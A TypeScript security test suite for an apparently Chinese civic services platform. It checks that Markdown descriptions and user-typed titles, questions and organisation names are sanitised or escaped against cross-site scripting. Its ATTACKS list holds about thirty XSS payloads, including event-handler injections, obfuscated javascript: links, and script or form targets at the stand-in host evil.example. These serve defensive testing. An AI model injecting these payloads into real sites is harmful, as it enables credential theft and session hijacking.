// Rich text renders safely. Need descriptions are Markdown rendered to HTML on the server (marked + sanitize-html,
// docs/decisions/010-markdown-descriptions.md): whatever a clerk writes — random Markdown mixed with script, event
// handlers, javascript:/data: links written every way a browser would still run them — the HTML keeps only the
// allow-list. And every other text a user types (titles, questions, names) reaches the page as text, never markup,
// including inside the data the page carries for the browser.
import fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import { prisma } from "#app/db.server.ts";
import { askQuestion } from "#app/modules/needs/enquiries.server.ts";
import { renderMarkdown } from "#app/modules/needs/markdown.server.ts";
import { createNeed } from "#app/modules/needs/needs.server.ts";
import { startSearch } from "#app/modules/search/sync.server.ts";
import { completeDraft } from "#tests/need-factories.ts";
import { seedReferenceData } from "../../prisma/seed/reference.ts";
import { app } from "./app.ts";
import { buildWorld, clientFor, type World } from "./world.ts";

process.env.SESSION_SECRET ??= "security-tests-secret-0123456789";

const ALLOWED_TAGS = new Set(["h3", "h4", "h5", "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td"]);
const ALLOWED_ATTRIBUTES: Record<string, string[]> = { a: ["href", "title", "rel"], th: ["align"], td: ["align"], ol: ["start"] };

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  "<style>body{display:none}</style>",
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  "[点我](javascript:alert(1))",
  "[点我](  javascript:alert(1)  )",
  "[点我](JAVASCRIPT:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![img](https://evil.example/track.png)",
  "<https://mzj.sh.gov.cn>",
  "[官网](https://mzj.sh.gov.cn \"title\" onmouseover=\"alert(1)\")",
  '<p style="position:fixed;top:0" onclick="alert(1)">x</p>',
  "<details open ontoggle=alert(1)>",
  "<form action=https://evil.example><input name=password></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<!--<img src=x onerror=alert(1)>-->",
  "<object data=javascript:alert(1)>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a | <img src=x onerror=alert(1)> |\n| --- | --- |\n| <script>x</script> | [x](javascript:1) |",
];

const MARKDOWN = ["# 标题", "## 服务内容", "- 条目", "1. 第一", "> 引用", "**粗体**", "*斜体*", "~~删除~~", "---", "\n\n", "| a | b |\n| - | - |\n| 1 | 2 |", "[官网](https://mzj.sh.gov.cn)", "mailto:a@b.cn"];

const document = fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.constantFrom(...MARKDOWN), fc.string({ maxLength: 30 }), fc.string({ unit: "grapheme", maxLength: 20 })), { minLength: 1, maxLength: 12 }).map((parts) => parts.join(" "));

function decodeEntities(value: string) {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;/gi, "\t")
    .replace(/&newline;/gi, "\n")
    .replace(/&amp;/g, "&");
}

/** Everything wrong with the HTML: a tag or attribute off the allow-list, or a link a browser would run. */
function problems(html: string): string[] {
  const found: string[] = [];
  for (const match of html.matchAll(/<\s*\/?\s*([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const tag = match[1].toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) found.push(`tag <${tag}>`);
    for (const attribute of match[2].matchAll(/([^\s=/"']+)\s*(?:=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const name = attribute[1].toLowerCase();
      if (!(ALLOWED_ATTRIBUTES[tag] ?? []).includes(name)) found.push(`attribute ${name} on <${tag}>`);
      if (name === "href") {
        // eslint-disable-next-line no-control-regex -- browsers ignore these inside a URL scheme
        const href = decodeEntities((attribute[2] ?? "").replace(/^["']|["']$/g, "")).replace(/[\u0000-\u0020]/g, "");
        if (!/^(https?:|mailto:)/i.test(href)) found.push(`href ${href}`);
      }
    }
  }
  return found;
}

describe("Markdown descriptions", () => {
  test("keep only the allow-list, whatever is written (property)", () => {
    fc.assert(
      fc.property(document, (markdown) => {
        const html = renderMarkdown(markdown);
        expect(problems(html), `${JSON.stringify(markdown)}\n→ ${html}`).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  test("each known attack on its own is defused, and the text around it survives", () => {
    for (const attack of ATTACKS) {
      const html = renderMarkdown(`开头 ${attack} 结尾`);
      expect(problems(html), `${attack} → ${html}`).toEqual([]);
      expect(html).toContain("开头");
    }
  });

  test("links that remain are http(s) or mailto, and open with rel=nofollow noopener noreferrer", () => {
    const html = renderMarkdown("[官网](https://mzj.sh.gov.cn) [邮件](mailto:a@b.cn) [坏](javascript:alert(1))");
    // The javascript: link keeps its text and loses its href.
    expect(html.match(/<a [^>]*href=/g)).toHaveLength(2);
    expect(html).toContain("坏");
    for (const tag of html.match(/<a [^>]*>/g)!) expect(tag).toContain('rel="nofollow noopener noreferrer"');
  });
});

describe("text typed by users reaches pages as text", () => {
  let world: World;
  const SCRIPT = '</script><script>alert("xss")</script>';

  beforeAll(async () => {
    await seedReferenceData(prisma);
    world = await buildWorld();
    await startSearch();
    await app();
  }, 120_000);

  test("a need's title, summary, description and a question with markup are escaped on the public page and in its data", async () => {
    const needId = (
      await createNeed(
        world.parties.buyerX.actor,
        await completeDraft({ title: `助餐${SCRIPT}`, summary: `<img src=x onerror=alert(1)>${SCRIPT}`, description: `## 内容\n\n${ATTACKS.join("\n\n")}` }),
        { publish: true },
      )
    ).needId;
    await askQuestion(world.parties.orgA.actor, needId, `请问${SCRIPT}<img src=x onerror=alert(2)>`);
    for (const role of ["anonymous", "orgB", "buyerX"] as const) {
      const client = await clientFor(world, role);
      for (const path of [`/needs/${needId}`, `/needs?q=${encodeURIComponent("助餐")}`]) {
        const answer = await client.get(path);
        expect(answer.status).toBe(200);
        // Markup written by users never appears as markup: not in the HTML, not in the scripts that carry data.
        expect(answer.text, `${role} ${path}`).not.toContain('<script>alert("xss")');
        expect(answer.text, `${role} ${path}`).not.toMatch(/<img src=x onerror/i);
        expect(answer.text, `${role} ${path}`).not.toMatch(/<svg\/onload|ontoggle=alert|href="javascript:/i);
      }
    }
    const buyer = await clientFor(world, "buyerX");
    const questions = await buyer.get(`/workspace/needs/${needId}/questions`);
    expect(questions.text).not.toContain('<script>alert("xss")');
    expect(questions.text).not.toMatch(/<img src=x onerror/i);
  });

  test("an organization's name and description with markup are escaped on its profile and in the directory", async () => {
    await prisma.organization.update({ where: { id: world.orgB.id }, data: { description: `我们${SCRIPT}<img src=x onerror=alert(3)>` } });
    const client = await clientFor(world, "anonymous");
    const answer = await client.get(`/orgs/${world.orgB.id}`);
    expect(answer.status).toBe(200);
    expect(answer.text).not.toContain('<script>alert("xss")');
    expect(answer.text).not.toMatch(/<img src=x onerror/i);
  });
});
